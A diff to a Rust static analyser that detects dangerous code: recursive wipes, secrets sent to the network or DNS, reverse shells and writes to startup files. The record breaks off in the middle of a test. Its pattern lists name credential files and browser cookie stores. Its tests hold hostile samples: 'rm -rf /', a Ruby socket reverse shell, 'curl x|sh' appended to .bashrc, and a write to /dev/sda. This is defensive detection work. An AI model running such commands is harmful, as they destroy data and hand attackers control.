@@ -114,6 +114,19 @@ struct Vocab {
     /// Calls that send a signal; with a PID of -1 they reach every process.
     #[serde(default)]
     kill: Vec<String>,
+    /// Calls that delete one file or an empty directory.
+    #[serde(default)]
+    unlink: Vec<String>,
+    /// Calls that enumerate every file under a root (the root is the first argument, the last
+    /// for Perl's `find`, or the receiver: `Path.home().rglob("*")`).
+    #[serde(default)]
+    walk: Vec<String>,
+    /// Calls that enumerate one directory or a glob pattern.
+    #[serde(default)]
+    list: Vec<String>,
+    /// Calls that open an outbound network connection.
+    #[serde(default)]
+    socket: Vec<String>,
 }
 
 fn vocab(lang: Lang) -> Option<&'static Vocab> {
@@ -154,8 +167,14 @@ pub struct Report {
     pub fork_loop: bool,
     /// Environment secrets or credential files reach a network call.
     pub secret_to_network: bool,
-    /// Files written with literal content: (path, content, appended).
-    pub writes: Vec<(String, String, bool)>,
+    /// One credential variable (`GITHUB_TOKEN`) sent to a host that is not its vendor's.
+    pub secret_variable_to_network: bool,
+    /// An outbound connection and a shell (or a command computed at run time) in the same code:
+    /// the remote side types the commands.
+    pub reverse_shell: bool,
+    /// Files written: (path, content when it is literal, appended). A write whose content is
+    /// computed (`bytes(4096)`, `Buffer.alloc(n)`, a download) still names its target.
+    pub writes: Vec<(String, Option<String>, bool)>,
 }
 
 /// Does the dotted call path `name` match vocabulary entry `entry`?
@@ -215,7 +234,76 @@ const SECRET_FILES: &[&str] = &[
     ".gnupg",
     "/etc/shadow",
     ".config/gh/hosts.yml",
+    ".config/gcloud",
+    ".azure/",
+    "/Cookies",
+    "/Login Data",
+    "logins.json",
+    "key4.db",
+    "cookies.sqlite",
+    "/proc/self/environ",
+    "/proc/1/environ",
 ];
+
+/// Methods that turn the environment object into a dump of every variable.
+const ENV_DUMPS: &[&str] = &[
+    "items", "keys", "values", "copy", "to_h", "to_hash", "to_a", "inspect", "to_s", "each", "map",
+    "entries", "toObject",
+];
+
+/// Does this variable name say it holds a credential?
+fn secret_named(var: &str) -> bool {
+    let u = var.to_ascii_uppercase();
+    [
+        "TOKEN",
+        "SECRET",
+        "PASSWORD",
+        "PASSWD",
+        "API_KEY",
+        "APIKEY",
+        "PRIVATE_KEY",
+        "ACCESS_KEY",
+        "CREDENTIAL",
+        "_PAT",
+    ]
+    .iter()
+    .any(|k| u.contains(k))
+        || u.ends_with("_KEY")
+}
+
+/// Calls that resolve a host name: a secret in the name leaves through DNS.
+fn is_dns_call(name: &str) -> bool {
+    name.contains("hostbyname")
+        || name.contains("getaddrinfo")
+        || name.contains("dns_get_record")
+        || name.contains("Resolv.")
+        || (name.contains("dns") || name.contains("resolver"))
+            && [
+                "resolve",
+                "lookup",
+                "resolve4",
+                "resolve6",
+                "resolveTxt",
+                "query",
+            ]
+            .iter()
+            .any(|m| name.ends_with(m))
+}
+
+/// The host of a literal URL (`https://HOST/…`), or a bare domain suffix used to build a name
+/// (`".x.evil.example.com"`).
+fn literal_host(s: &str) -> Option<String> {
+    if let Some(rest) = s.split_once("://").map(|p| p.1) {
+        let host = rest.split(['/', '?', '#', ':']).next().unwrap_or("");
+        return (host.contains('.')).then(|| host.to_ascii_lowercase());
+    }
+    let t = s.trim_start_matches('.');
+    (s.starts_with('.')
+        && t.matches('.').count() >= 1
+        && t.chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'))
+    .then(|| t.to_ascii_lowercase())
+}
 
 /// What the command line fixes about a snippet's inputs: the arguments after the code
 /// (`python3 -c CODE a b` → `sys.argv[1] == "a"`), its stdin, and environment variables.
@@ -242,7 +330,7 @@ pub fn analyze_with(lang: Lang, code: &str, inputs: &Inputs) -> Report {
         Lang::PowerShell => powershell(code),
         Lang::Tcl => tcl(code),
         _ => match vocab(lang) {
-            Some(v) => with_vocab(lang, v, code, inputs),
+            Some(v) => with_vocab(lang, v, code, inputs, 0),
             None => Report::default(),
         },
     }
@@ -750,8 +838,49 @@ fn substitute_inputs(toks: Vec<Tok>, inputs: &Inputs) -> Vec<Tok> {
     out
 }
 
-fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
-    let mut toks = tokens::normalize(tokenize(code, lang.style()), lang.style());
+/// Evaluator calls whose argument is code in the same language (not a module or file name).
+const CODE_EVALS: &[&str] = &[
+    "exec",
+    "eval",
+    "compile",
+    "Function",
+    "runInThisContext",
+    "runInNewContext",
+    "runInContext",
+    "Script",
+    "instance_eval",
+    "class_eval",
+    "module_eval",
+    "assert",
+    "create_function",
+    "loadstring",
+    "load",
+];
+
+/// How deep literal code handed to an evaluator (`exec("…")`, `eval "…"`) is followed.
+const MAX_EVAL_DEPTH: usize = 4;
+
+/// Fold what literal code run by an evaluator does into the outer report.
+fn merge(r: &mut Report, inner: Report) {
+    r.runs.extend(inner.runs);
+    r.deletes.extend(inner.deletes);
+    r.dynamic.extend(inner.dynamic);
+    r.writes.extend(inner.writes);
+    r.fetch_exec |= inner.fetch_exec;
+    r.runs_input |= inner.runs_input;
+    r.fork_loop |= inner.fork_loop;
+    r.secret_to_network |= inner.secret_to_network;
+    r.secret_variable_to_network |= inner.secret_variable_to_network;
+    r.reverse_shell |= inner.reverse_shell;
+}
+
+fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) -> Report {
+    let raw = tokenize(code, lang.style());
+    let obfuscated = raw.iter().any(|t| {
+        matches!(t, Tok::Ident(n) if OBFUSCATORS.iter().chain(&["reversed", "strrev", "char"])
+            .any(|o| n == o || n.ends_with(&format!(".{o}"))))
+    });
+    let mut toks = tokens::normalize(raw, lang.style());
     if !inputs.argv.is_empty() || inputs.stdin.is_some() || !inputs.env.is_empty() {
         toks = substitute_inputs(toks, inputs);
     }
@@ -770,6 +899,7 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
     let mut r = Report::default();
     let mut vars: HashMap<String, String> = HashMap::new();
     let mut paths: HashMap<String, String> = HashMap::new();
+    let mut funcs: HashMap<String, String> = HashMap::new();
     let mut fetch = false;
     let mut stdin = false;
     let mut dynamic_eval = false;
@@ -777,9 +907,22 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
     let mut fork = false;
     let mut secrets = false;
     let mut send = false;
+    let mut socket = false;
+    let mut net_call = false;
+    let mut dns = false;
+    let mut url_literal = false;
+    let mut hosts: Vec<String> = Vec::new();
+    let mut named_secrets: Vec<String> = Vec::new();
+    let mut interpolated_cmd = false;
+    let mut evaluated_files: Vec<String> = Vec::new();
     for (i, t) in toks.iter().enumerate() {
         let name = match t {
             Tok::Cmd(c) => {
+                // `` `#{cmd}` ``, `` `$cmd` ``: a command taken from data.
+                interpolated_cmd |= c.contains("#{") || c.contains('$');
+                if SECRET_FILES.iter().any(|f| c.contains(f)) {
+                    secrets = true;
+                }
                 r.runs
                     .push((Run::Shell(c.clone()), "a command literal".into()));
                 continue;
@@ -787,6 +930,12 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
             Tok::Str(s) => {
                 if SECRET_FILES.iter().any(|f| s.contains(f)) && !s.ends_with(".example") {
                     secrets = true;
+                }
+                if s.starts_with("http://") || s.starts_with("https://") {
+                    url_literal = true;
+                }
+                if let Some(h) = literal_host(s) {
+                    hosts.push(h);
                 }
                 if s.starts_with("php://stdin") {
                     stdin = true;
@@ -826,20 +975,88 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
             if let Some(l) = literal(value, &vars) {
                 vars.insert(name.to_string(), l.clone());
                 vars.insert(key.clone(), l);
+            } else if let [Tok::Ident(f)] = value {
+                // `f = os.system` (also after `getattr(os, "sys" + "tem")`): calls of `f` are
+                // calls of `os.system`.
+                if [&v.shell, &v.argv, &v.eval, &v.delete, &v.unlink]
+                    .iter()
+                    .any(|l| in_list(f, l))
+                {
+                    funcs.insert(name.to_string(), f.clone());
+                }
             } else if let Some(p) = resolve_path(value, v, &paths) {
                 paths.insert(name.to_string(), p.clone());
                 paths.insert(key, p);
             }
         }
+        // PHP and Perl variable functions: `$f = "system"; $f("…")` calls `system`.
+        let callee;
+        let name = match vars.get(name) {
+            Some(f)
+                if name.starts_with('$')
+                    && matches!(toks.get(i + 1), Some(Tok::Punct('(')))
+                    && !f.is_empty()
+                    && f.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') =>
+            {
+                callee = f.clone();
+                callee.as_str()
+            }
+            _ => match funcs.get(name) {
+                Some(f) if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
+                    callee = f.clone();
+                    callee.as_str()
+                }
+                _ => name,
+            },
+        };
         let followed_by_block = matches!(toks.get(i + 1), Some(Tok::Punct('{')));
         if v.fetch_modules.iter().any(|m| m == name) {
             fetch = true;
         }
         if in_list(name, &v.fetch) {
             fetch = true;
+            net_call = true;
         }
         if in_list(name, &v.send) {
             send = true;
+            net_call = true;
+        }
+        if is_dns_call(name) {
+            dns = true;
+        }
+        // `process.env.GITHUB_TOKEN`, `$ENV{GITHUB_TOKEN}`, `ENV["X"]`, `os.environ["X"]`,
+        // `os.getenv("X")`, `getenv("X")`: one named variable.
+        if let Some(var) = name.strip_prefix("process.env.") {
+            if secret_named(var) {
+                named_secrets.push(var.to_string());
+            }
+        } else if in_list(name, &v.secrets) || in_list(name, &v.home) {
+            let key = toks[i + 1..toks.len().min(i + 5)]
+                .iter()
+                .find_map(|t| match t {
+                    Tok::Str(k) => Some(k.clone()),
+                    Tok::Ident(k)
+                        if lang == Lang::Perl
+                            && k.chars().all(|c| c.is_ascii_uppercase() || c == '_') =>
+                    {
+                        Some(k.clone())
+                    }
+                    _ => None,
+                });
+            if let Some(k) = key.filter(|k| secret_named(k)) {
+                named_secrets.push(k);
+            }
+        }
+        // `os.environ.items()`, `ENV.to_h`, `process.env` spread: the whole environment.
+        if v.secrets.iter().any(|e| {
+            name.strip_prefix(e.as_str())
+                .and_then(|rest| rest.strip_prefix('.'))
+                .is_some_and(|m| ENV_DUMPS.contains(&m.split('.').next().unwrap_or(m)))
+        }) {
+            secrets = true;
+        }
+        if in_list(name, &v.socket) {
+            socket = true;
         }
         if in_list(name, &v.stdin) {
             stdin = true;
@@ -871,9 +1088,29 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
             }
         }
         if in_list(name, &v.eval) && !followed_by_block {
+            let last = name.rsplit('.').next().unwrap_or(name);
             match args_of(&toks, i, lang) {
                 Some(args) => {
-                    if !args.is_empty() && literal(args, &vars).is_none() {
+                    // `exec("…")`, `eval "…"`, `compile("…", "x", "exec")`: literal code in the
+                    // same language, analysed as if written out.
+                    let first = split_args(args).into_iter().next().unwrap_or(&[]);
+                    let inner_code = literal(first, &vars);
+                    if let Some(file) = inner_code.as_ref().filter(|_| !CODE_EVALS.contains(&last))
+                    {
+                        // `include "/tmp/s.php"`, `require "/tmp/x.rb"`, `dofile("/tmp/p.lua")`.
+                        evaluated_files.push(file.clone());
+                    }
+                    if let Some(inner) = inner_code.filter(|_| CODE_EVALS.contains(&last)) {
+                        // Decoded from character codes, rot13 or reversed text: hidden on purpose,
+                        // reported even when the decoded code does nothing known.
+                        if obfuscated {
+                            r.dynamic.push(name.to_string());
+                        }
+                        if depth < MAX_EVAL_DEPTH {
+                            let sub = with_vocab(lang, v, &inner, inputs, depth + 1);
+                            merge(&mut r, sub);
+                        }
+                    } else if !args.is_empty() && literal(args, &vars).is_none() {
                         dynamic_eval = true;
                         // Code assembled from character codes, decoded or reversed text is
                         // hiding what it runs: reported even without a download.
@@ -923,11 +1160,85 @@ fn with_vocab(lang: Lang, v: &Vocab, code: &str, inputs: &Inputs) -> Report {
             }
         }
     }
+    enumerated_deletes(lang, &toks, v, &paths, &vars, &mut r);
     writes_and_shell_pipes(lang, &toks, v, &paths, &vars, &mut r);
-    r.fetch_exec = fetch && (dynamic_eval || dynamic_run);
+    // A download through a command (`io.popen("curl -s URL")`, `os.system("wget …")`).
+    let run_words = |run: &Run| -> Vec<String> {
+        match run {
+            Run::Argv(a) => a.clone(),
+            Run::Shell(s) => s.split_whitespace().map(str::to_string).collect(),
+        }
+    };
+    fetch |= r.runs.iter().any(|(run, _)| {
+        run_words(run)
+            .first()
+            .is_some_and(|p| matches!(p.rsplit('/').next(), Some("curl" | "wget")))
+    });
+    // A file this code writes (a download's target) that it then runs or loads.
+    let written: Vec<&str> = r
+        .writes
+        .iter()
+        .map(|(p, _, _)| p.as_str())
+        .filter(|p| p.len() > 1)
+        .collect();
+    let runs_written = r.runs.iter().any(|(run, _)| {
+        let text = match run {
+            Run::Argv(a) => a.join(" "),
+            Run::Shell(s) => s.clone(),
+        };
+        written.iter().any(|w| text.contains(w))
+    }) || evaluated_files
+        .iter()
+        .any(|f| written.contains(&f.as_str()));
+    r.fetch_exec = fetch && (dynamic_eval || dynamic_run || runs_written);
     r.runs_input = stdin && (dynamic_eval || dynamic_run);
     r.fork_loop = fork && (infinite_loop(&toks) || huge_count(&toks));
-    r.secret_to_network = secrets && send;
+    // A shell command assembled at run time around a network tool (`os.execute("curl -d "..f..
+    // " http://…")`) sends too.
+    if dynamic_run
+        && toks.iter().any(|t| {
+            matches!(t, Tok::Str(s) if s.split_whitespace().next().is_some_and(|w| {
+                matches!(w.rsplit('/').next(), Some("curl" | "wget" | "nc" | "ncat" | "socat"))
+            }))
+        })
+    {
+        send = true;
+        net_call = true;
+    }
+    // Credential files or the whole environment reaching a sender, a fetch of a literal URL (a
+    // GET carries it in the URL), or a DNS lookup; a credential variable reaching a DNS lookup.
+    r.secret_to_network =
+        secrets && (send || (net_call && url_literal) || dns) || dns && !named_secrets.is_empty();
+    // One credential variable reaching a request to a host that is not its vendor's
+    // (`GITHUB_TOKEN` to api.github.com is ordinary use).
+    r.secret_variable_to_network = !r.secret_to_network
+        && net_call
+        && !hosts.is_empty()
+        && named_secrets.iter().any(|var| {
+            !hosts
+                .iter()
+                .any(|h| crate::text::vendor::vendor_of_variable(var, h))
+        });
+    let runs_shell = r.runs.iter().any(|(run, _)| {
+        let first = match run {
+            Run::Argv(a) => a.first().map(String::as_str).unwrap_or(""),
+            Run::Shell(s) => s.split_whitespace().next().unwrap_or(""),
+        };
+        let base = first.rsplit(['/', '\\']).next().unwrap_or(first);
+        matches!(
+            base,
+            "sh" | "bash"
+                | "zsh"
+                | "dash"
+                | "ksh"
+                | "ash"
+                | "cmd.exe"
+                | "cmd"
+                | "powershell"
+                | "pwsh"
+        )
+    });
+    r.reverse_shell = socket && (runs_shell || dynamic_run || interpolated_cmd);
     r
 }
 
@@ -942,7 +1253,11 @@ fn writes_and_shell_pipes(
     vars: &HashMap<String, String>,
     r: &mut Report,
 ) {
-    let path_of = |arg: &[Tok]| resolve_path(arg, v, paths).or_else(|| literal(arg, vars));
+    let path_of = |arg: &[Tok]| {
+        site_dir_path(arg)
+            .or_else(|| resolve_path(arg, v, paths))
+            .or_else(|| literal(arg, vars))
+    };
     let first_str_after = |from: usize| -> Option<String> {
         toks[from..].iter().take(6).find_map(|t| {
             if let Tok::Str(s) = t {
@@ -953,7 +1268,6 @@ fn writes_and_shell_pipes(
         })
     };
     let mut shell_handle = false;
-    let mut file_handle: Option<(String, bool)> = None;
     for (i, t) in toks.iter().enumerate() {
         let Tok::Ident(name) = t else { continue };
         let last = name.rsplit('.').next().unwrap_or(name);
@@ -982,12 +1296,21 @@ fn writes_and_shell_pipes(
                     continue;
                 }
                 if lang == Lang::Perl {
-                    if let Some(spec) = strs.iter().find(|s| s.starts_with('>')) {
+                    // `open(F, ">>PATH")`, or three arguments: `open(my $f, ">", PATH)`.
+                    if let Some(k) = strs
+                        .iter()
+                        .position(|s| s.starts_with('>') || s.starts_with("+<"))
+                    {
+                        let spec = &strs[k];
                         let append = spec.starts_with(">>");
-                        let p = spec.trim_start_matches('>').trim().to_string();
+                        let mut p = spec.trim_start_matches(['+', '>', '<']).trim().to_string();
+                        if p.is_empty() {
+                            p = strs.get(k + 1).cloned().unwrap_or_default();
+                        }
                         if !p.is_empty() {
-                            file_handle =
-                                Some((p.replace("$ENV{HOME}", "~").replace("$HOME", "~"), append));
+                            let p = p.replace("$ENV{HOME}", "~").replace("$HOME", "~");
+                            r.writes
+                                .push((p, later_write_text(toks, after, vars), append));
                         }
                     }
                     continue;
@@ -996,29 +1319,69 @@ fn writes_and_shell_pipes(
                     .get(1)
                     .and_then(|p| literal(p, vars))
                     .unwrap_or_default();
-                if mode.contains('w') || mode.contains('a') {
+                if mode.contains(['w', 'a', '+']) {
                     if let Some(path) = parts.first().and_then(|p| path_of(p)) {
-                        // `.write(TEXT)` right after the call.
-                        if matches!(toks.get(after), Some(Tok::Punct('.')))
-                            || matches!(toks.get(after), Some(Tok::Ident(w)) if w.ends_with("write"))
-                        {
-                            if let Some(text) = first_str_after(after) {
-                                r.writes.push((path, text, mode.contains('a')));
-                            }
+                        // `.write(TEXT)` right after the call, or the literal text of the writes
+                        // that follow (`with open(p, "a") as f: f.write(TEXT)`, `f:write(TEXT)`).
+                        let immediate = matches!(toks.get(after), Some(Tok::Punct('.' | ':')))
+                            || matches!(toks.get(after), Some(Tok::Ident(w)) if w.ends_with("write"));
+                        let text = if immediate {
+                            first_str_after(after)
+                        } else {
+                            later_write_text(toks, after, vars)
+                        };
+                        r.writes.push((path, text, mode.contains('a')));
+                    }
+                }
+            }
+            // `urlretrieve(URL, PATH)`, Perl `getstore(URL, PATH)` / `mirror`, R `download.file`:
+            // a download written to PATH.
+            "urlretrieve" | "getstore" | "mirror" | "download_file" | "file"
+                if matches!(toks.get(i + 1), Some(Tok::Punct('(')))
+                    && (last != "file" || name.ends_with("download.file")) =>
+            {
+                if let Some((args, _)) = call_args(toks, i + 1) {
+                    if let Some(path) = split_args(args).get(1).and_then(|p| path_of(p)) {
+                        r.writes.push((path, None, false));
+                    }
+                }
+            }
+            // `os.truncate(p, 0)`, `File.truncate(p, 0)`, `ftruncate`: the file is emptied.
+            "truncate" if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
+                if let Some((args, _)) = call_args(toks, i + 1) {
+                    if let Some(path) = split_args(args).first().and_then(|p| path_of(p)) {
+                        r.writes.push((path, None, false));
+                    }
+                }
+            }
+            // `fs.createWriteStream(p)`: a stream written with whatever is piped into it.
+            "createWriteStream" | "fopen" if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
+                if let Some((args, _)) = call_args(toks, i + 1) {
+                    let parts = split_args(args);
+                    let mode = parts
+                        .get(1)
+                        .and_then(|p| literal(p, vars))
+                        .unwrap_or_else(|| "w".into());
+                    if mode.contains(['w', 'a', '+']) {
+                        if let Some(path) = parts.first().and_then(|p| path_of(p)) {
+                            r.writes.push((path, None, mode.contains('a')));
                         }
                     }
                 }
             }
             "writeFileSync" | "appendFileSync" | "writeFile" | "appendFile" | "write_text"
-            | "write"
+            | "write_bytes" | "write" | "file_put_contents" | "binwrite"
                 if matches!(toks.get(i + 1), Some(Tok::Punct('('))) =>
             {
                 let Some((args, _)) = call_args(toks, i + 1) else {
                     continue;
                 };
                 let parts = split_args(args);
-                let append = last.starts_with("append");
-                if last == "write_text" {
+                let append = last.starts_with("append")
+                    || args
+                        .iter()
+                        .any(|t| matches!(t, Tok::Ident(f) if f == "FILE_APPEND"));
+                if last == "write_text" || last == "write_bytes" {
                     // `Path(p).write_text(s)` / `(Path.home()/".bashrc").write_text(s)`: the path is before.
                     let start = toks[..i]
                         .iter()
@@ -1027,15 +1390,14 @@ fn writes_and_shell_pipes(
                         .unwrap_or(0);
                     let mut target: Vec<Tok> = toks[start..i].to_vec();
                     target.retain(|t| !matches!(t, Tok::Punct('/')));
-                    if let (Some(path), Some(text)) = (
-                        path_of(&target),
-                        parts.first().and_then(|p| literal(p, vars)),
-                    ) {
-                        r.writes.push((path, text, true));
+                    if let Some(path) = path_of(&target) {
+                        r.writes
+                            .push((path, parts.first().and_then(|p| literal(p, vars)), false));
                     }
                 } else if parts.len() >= 2 {
-                    if let (Some(path), Some(text)) = (path_of(parts[0]), literal(parts[1], vars)) {
-                        r.writes.push((path, text, append));
+                    // A handle's `f.write(TEXT)` has one argument: its file was recorded at `open`.
+                    if let Some(path) = path_of(parts[0]) {
+                        r.writes.push((path, literal(parts[1], vars), append));
                     }
                 }
             }
@@ -1045,8 +1407,6 @@ fn writes_and_shell_pipes(
                     if shell_handle {
                         r.runs
                             .push((Run::Shell(text), "print to a shell pipe".into()));
-                    } else if let Some((p, append)) = &file_handle {
-                        r.writes.push((p.clone(), text, *append));
                     }
                 }
             }
@@ -1069,6 +1429,168 @@ fn writes_and_shell_pipes(
             _ => {}
         }
     }
+}
+
+/// Deletes applied to what an enumeration yields: `for f in os.walk("/")… os.remove(…)`,
+/// `[p.unlink() for p in Path.home().rglob("*")]`, `array_map("unlink", glob("/etc/*"))`,
+/// `find(sub { unlink $_ }, "/etc")`, `Dir.glob("/etc/**/*").each { File.delete(f) }`. The effect
+/// is that of `rm -rf` on the root (a walk) or on the listed directory or pattern (a list).
+fn enumerated_deletes(
+    lang: Lang,
+    toks: &[Tok],
+    v: &Vocab,
+    paths: &HashMap<String, String>,
+    vars: &HashMap<String, String>,
+    r: &mut Report,
+) {
+    let path_of = |arg: &[Tok]| {
+        resolve_path(arg, v, paths)
+            .or_else(|| literal(arg, vars))
+            .map(|p| {
+                p.replace("$ENV{HOME}", "~")
+                    .replace("${HOME}", "~")
+                    .replace("$HOME", "~")
+            })
+    };
+    // A delete of something computed (an enumerated entry), or the delete passed as a callback
+    // (`array_map("unlink", …)`, `map(os.remove, …)`, `.each(&File.method(:delete))`). Deletes of
+    // fixed paths (`os.remove("out.txt")`) do not apply to an enumeration elsewhere in the code.
+    let deletes = toks.iter().enumerate().any(|(j, t)| match t {
+        Tok::Ident(n) if in_list(n, &v.unlink) || in_list(n, &v.delete) => {
+            match args_of(toks, j, lang).map(split_args) {
+                Some(parts) if !parts.is_empty() => {
+                    // `unlink glob(…)`: the argument is the enumeration itself.
+                    path_of(parts[0]).is_none()
+                        || parts[0].iter().any(|t| {
+                            matches!(t, Tok::Ident(e) if in_list(e, &v.list) || in_list(e, &v.walk))
+                        })
+                }
+                // `p.unlink()`: the receiver is the entry.
+                Some(_) => true,
+                None => true,
+            }
+        }
+        Tok::Str(s) => v.unlink.iter().any(|u| u == s),
+        _ => false,
+    });
+    if !deletes {
+        return;
+    }
+    for (i, t) in toks.iter().enumerate() {
+        let Tok::Ident(name) = t else { continue };
+        let walk = in_list(name, &v.walk);
+        if !walk && !in_list(name, &v.list) {
+            continue;
+        }
+        let parts = args_of(toks, i, lang).map(split_args).unwrap_or_default();
+        let arg = if lang == Lang::Perl && walk {
+            parts.last().copied()
+        } else {
+            parts.first().copied()
+        };
+        // `Path.home().rglob("*")`, `Path("/usr").glob("**/*")`: the root is the receiver.
+        let method = name.starts_with('.')
+            || i > 0 && matches!(toks[i - 1], Tok::Punct('.'))
+            || walk && name.contains('.') && !v.walk.iter().any(|w| w == name);
+        let receiver = method.then(|| receiver_path(toks, i, &path_of)).flatten();
+        let root = match (receiver, arg.and_then(&path_of)) {
+            (Some(base), Some(pattern)) => format!("{}/{pattern}", base.trim_end_matches('/')),
+            (Some(base), None) => base,
+            (None, Some(p)) => p,
+            (None, None) => continue,
+        };
+        // Entries of the project (`os.listdir(".")`, `glob("*.tmp")`) are ordinary clean-up;
+        // roots outside it (absolute, home, parent) are what a wipe enumerates.
+        if !(root.starts_with('/') || root.starts_with('~') || root.starts_with("..")) {
+            continue;
+        }
+        // `**` or a walk reaches every file below the fixed part of the pattern.
+        let target = if walk || root.contains("**") {
+            let fixed = root.split("/**").next().unwrap_or(&root);
+            let fixed = fixed.trim_end_matches("/*").to_string();
+            if fixed.is_empty() {
+                "/".to_string()
+            } else {
+                fixed
+            }
+        } else if root.contains(['*', '?', '[']) {
+            root
+        } else {
+            // A directory listed then emptied entry by entry.
+            format!("{}/*", root.trim_end_matches('/'))
+        };
+        r.deletes.push((target, format!("{name} with a delete")));
+    }
+}
+
+/// The path a method call's receiver names (`Path.home()` in `Path.home().rglob`, `Path("/usr")`).
+fn receiver_path(
+    toks: &[Tok],
+    i: usize,
+    path_of: &dyn Fn(&[Tok]) -> Option<String>,
+) -> Option<String> {
+    let mut depth = 0i32;
+    let mut start = i;
+    while start > 0 {
+        match &toks[start - 1] {
+            Tok::Punct(')') | Tok::Punct(']') => depth += 1,
+            Tok::Punct('(') | Tok::Punct('[') if depth > 0 => depth -= 1,
+            Tok::Punct('(' | '[' | ';' | ',' | '=' | '{') => break,
+            Tok::Ident(n) if depth == 0 && matches!(n.as_str(), "in" | "for" | "return") => break,
+            _ => {}
+        }
+        start -= 1;
+    }
+    let mut recv: Vec<Tok> = toks[start..i].to_vec();
+    while matches!(recv.last(), Some(Tok::Punct('.'))) {
+        recv.pop();
+    }
+    if recv.is_empty() {
+        return None;
+    }
+    path_of(&recv)
+}
+
+/// A path computed from Python's site directories (`site.getsitepackages()[0] + "/x.pth"`,
+/// `sysconfig.get_paths()["purelib"]`, `site.USER_SITE`): `site-packages/` and the literal tail.
+fn site_dir_path(arg: &[Tok]) -> Option<String> {
+    let site = arg.iter().any(|t| {
+        matches!(t, Tok::Ident(n) if n.contains("sitepackages") || n.ends_with("USER_SITE")
+            || n.ends_with("get_paths") || n.ends_with("get_python_lib"))
+    });
+    let tail = arg.iter().rev().find_map(|t| match t {
+        Tok::Str(s) if s.contains('.') => Some(s.trim_start_matches(['/', '\\'])),
+        _ => None,
+    })?;
+    site.then(|| format!("site-packages/{tail}"))
+}
+
+/// The literal text written by the write calls after token `from` (`f.write(TEXT)`,
+/// `f:write(TEXT)`, `f.puts TEXT`, Perl `print F TEXT`), joined; `None` when none is literal.
+fn later_write_text(toks: &[Tok], from: usize, vars: &HashMap<String, String>) -> Option<String> {
+    let mut out = String::new();
+    for (j, t) in toks.iter().enumerate().skip(from) {
+        let Tok::Ident(n) = t else { continue };
+        let last = n.rsplit(['.', ':']).next().unwrap_or(n);
+        if !matches!(
+            last,
+            "write" | "writelines" | "puts" | "print" | "printf" | "say"
+        ) {
+            continue;
+        }
+        let args = match call_args(toks, j + 1) {
+            Some((a, _)) => a,
+            None => &toks[j + 1..toks.len().min(j + 4)],
+        };
+        if let Some(text) = args.iter().find_map(|t| match t {
+            Tok::Str(s) => Some(s.clone()),
+            Tok::Ident(v) => vars.get(v).cloned(),
+            _ => None,
+        }) {
+            out.push_str(&text);
+        }
+    }
+    (!out.is_empty()).then_some(out)
 }
 
 /// What a shell/argv call runs, when its arguments are literals.
@@ -1297,6 +1819,124 @@ fn powershell(code: &str) -> Report {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn deletes_over_an_enumeration_delete_its_root() {
+        let del = |lang, code| {
+            analyze(lang, code)
+                .deletes
+                .into_iter()
+                .map(|(p, _)| p)
+                .collect::<Vec<_>>()
+        };
+        let py = Lang::Python;
+        assert_eq!(
+            del(py, "import os\nfor r,d,fs in os.walk('/'):\n  for f in fs: os.remove(os.path.join(r,f))"),
+            ["/"]
+        );
+        assert_eq!(
+            del(py, "[p.unlink() for p in Path.home().rglob('*')]"),
+            ["~"]
+        );
+        assert_eq!(
+            del(Lang::Perl, "find(sub{unlink $_ if -f}, '/etc')"),
+            ["/etc"]
+        );
+        assert_eq!(
+            del(Lang::Php, "array_map('unlink', glob('/etc/*'));"),
+            ["/etc/*"]
+        );
+        assert_eq!(
+            del(Lang::Ruby, "Dir.glob('/usr/**/*').each{|f| File.delete(f)}"),
+            ["/usr"]
+        );
+        // Project clean-up, and fixed files beside a listing, are not wipes.
+        assert!(del(py, "[os.remove(f) for f in glob.glob('*.pyc')]").is_empty());
+        assert!(del(py, "print(os.listdir('/')); os.remove('out.txt')").is_empty());
+    }
+
+    #[test]
+    fn writes_name_their_target_even_with_computed_content() {
+        let w = |lang, code| analyze(lang, code).writes;
+        let r = w(Lang::Python, "open('/dev/sda','r+b').write(bytes(4096))");
+        assert_eq!(r[0].0, "/dev/sda");
+        assert_eq!(r[0].1, None);
+        let r = w(
+            Lang::Perl,
+            "open(my $f, '>>', \"$ENV{HOME}/.bashrc\"); print $f \"curl x|sh\\n\"",
+        );
+        assert_eq!(r[0].0, "~/.bashrc");
+        assert!(r[0].1.as_deref().unwrap_or("").contains("curl x|sh"));
+        assert!(r[0].2, "appended");
+        let r = w(
+            Lang::Php,
+            "file_put_contents('/etc/cron.d/x', $s, FILE_APPEND);",
+        );
+        assert_eq!((r[0].0.as_str(), r[0].2), ("/etc/cron.d/x", true));
+        let r = w(
+            Lang::Python,
+            "import site; open(site.getsitepackages()[0]+'/zz.pth','w')",
+        );
+        assert_eq!(r[0].0, "site-packages/zz.pth");
+    }
+
+    #[test]
+    fn literal_code_given_to_an_evaluator_is_analysed() {
+        let r = analyze(Lang::Python, "exec(\"import os; os.system('rm -rf /')\")");
+        assert_eq!(shells(&r), ["rm -rf /"]);
+        let r = analyze(Lang::Perl, "eval \"system(q{id})\"");
+        assert_eq!(shells(&r), ["id"]);
+        let r = analyze(Lang::Python, "print(eval('1+2'))");
+        assert!(r.runs.is_empty() && r.dynamic.is_empty());
+    }
+
+    #[test]
+    fn connections_with_a_shell_fetches_run_and_named_secrets() {
+        assert!(
+            analyze(
+                Lang::Ruby,
+                "c=TCPSocket.new('h',1);while(l=c.gets);c.puts(`#{l}`);end"
+            )
+            .reverse_shell
+        );
+        assert!(
+            !analyze(
+                Lang::Ruby,
+                "s=TCPSocket.new('h',80); s.write('GET /'); puts s.read"
+            )
+            .reverse_shell
+        );
+        let r = analyze(
+            Lang::Python,
